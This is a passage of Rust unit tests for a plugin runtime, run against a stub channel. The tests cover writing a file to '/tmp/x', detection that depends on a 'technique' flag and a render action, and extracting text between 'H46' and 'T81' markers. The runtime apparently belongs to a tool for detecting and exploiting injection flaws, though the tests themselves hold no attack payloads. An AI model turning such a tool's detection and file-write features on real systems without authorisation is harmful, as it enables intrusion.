        let channel = Arc::new(StubChannel::new(args, stateful_file_handler(written)));
        let runtime = PluginRuntime::new(Arc::new(echo_descriptor()), channel);
        assert!(runtime.write("/tmp/x", b"payload").await.unwrap());
    }

    #[tokio::test]
    async fn detect_respects_technique_flags() {
        let args = Args {
            technique: "R".to_string(),
            ..Args::default()
        };
        let channel = Arc::new(StubChannel::new(args, |_| String::new()));
        let mut descriptor = echo_descriptor();
        descriptor.actions.render = None;
        let runtime = PluginRuntime::new(Arc::new(descriptor), channel);
        assert!(!runtime.detect().await.unwrap());
    }

    #[test]
    fn extract_between_pulls_substring_when_both_markers_present() {
        assert_eq!(extract_between("H46middleT81", Some("H46"), Some("T81")), "middle");
    }

    #[test]
    fn extract_between_returns_empty_when_header_missing() {
        assert_eq!(extract_between("no markers", Some("H46"), Some("T81")), "");
    }

    #[test]
    fn extract_between_returns_raw_body_when_framing_unsupported() {
        assert_eq!(extract_between("raw body", None, None), "raw body");
    }
}
